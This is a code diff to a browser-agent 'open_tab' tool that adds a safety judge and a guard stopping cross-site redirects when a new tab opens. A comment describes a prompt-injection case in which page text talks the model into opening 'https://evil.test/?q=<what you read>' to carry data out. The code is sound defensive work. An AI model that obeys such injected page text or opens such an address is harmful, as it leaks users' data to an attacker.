@@ -1,7 +1,10 @@
 /** `open_tab`: opens a URL in a new tab of the run's window. */
 import { z } from 'zod';
+import { ToolError } from '../../runtime/errors.js';
+import { landingBlockedPayload } from '../../runtime/execute-trust.js';
 import { buildTool } from '../../runtime/tool.js';
-import { navigationIsCrossSite } from '../safety.js';
+import { guardFor } from '../safety/judge.js';
+import { judgeOpenTabCall } from '../safety/judge-navigation.js';
 import { originOf, requireBrowser, tabView, type TabView } from './shared.js';
 
 const inputSchema = z.strictObject({
@@ -55,17 +58,32 @@ export const openTab = buildTool<typeof inputSchema, OpenTabOutput>({
   permissionSubject: (input) => originOf(input.url),
   // Why it must stay: a tab on another site can carry data out in its address (a page's text may have
   // talked the model into "open https://evil.test/?q=<what you read>"), so like navigate to another
-  // site it asks the person, also in auto mode. Same-site tabs follow the mode and site grants.
-  async checkPermissions(input, context) {
-    const tabId = context.currentTabId;
-    const from = tabId === undefined || !context.browser ? undefined : await context.browser.getTab(tabId).then((tab) => tab.url, () => undefined);
-    const verdict = navigationIsCrossSite(from, input.url);
-    return verdict.destructive ? { behavior: 'ask', reason: `opening this tab ${verdict.reason ?? 'leaves the current site'}` } : { behavior: 'passthrough' };
-  },
+  // site it asks the person, also in auto mode; so does an address carrying text read on another site.
+  // Same-site tabs follow the mode and site grants.
+  checkPermissions: (input, context) => judgeOpenTabCall(input, context),
   interruptBehavior: () => 'block',
   maxResultSizeChars: 5_000,
   async call(input, context) {
-    const tab = await requireBrowser(context).openTab(input.url, { active: input.active, windowId: context.windowId });
+    const browser = requireBrowser(context);
+    let tab = await browser.openTab(input.url === 'about:blank' ? input.url : 'about:blank', { active: false, windowId: context.windowId });
+    // The new tab loads the address only once it is held to the judged landing: a redirect to another site is stopped before it leaves.
+    const spec = guardFor(tab.id, undefined, input.url);
+    const guard = spec && browser.guardLanding ? await browser.guardLanding(tab.id, spec.allowed).catch(() => undefined) : undefined;
+    try {
+      tab = await browser.navigate(tab.id, { url: input.url }, context.abortController.signal).catch((error: unknown) => {
+        if (guard && guard.blocked().length > 0) return tab;
+        throw error;
+      });
+      const blocked = guard?.blocked() ?? [];
+      if (blocked.length > 0) {
+        await browser.closeTab(tab.id).catch(() => undefined);
+        const { code, message, suggestion, ...details } = landingBlockedPayload(blocked, 'open_tab');
+        throw new ToolError(code, message.replace('The tab stays where it was.', 'The new tab was closed.'), { suggestion, details });
+      }
+    } finally {
+      await guard?.release().catch(() => undefined);
+    }
+    if (input.active) tab = await browser.activateTab(tab.id);
     const output: OpenTabOutput = { ...tabView(tab), current: input.active };
     if (!input.active) return { data: output };
     return { data: output, contextModifier: (prior) => ({ ...prior, currentTabId: tab.id }) };
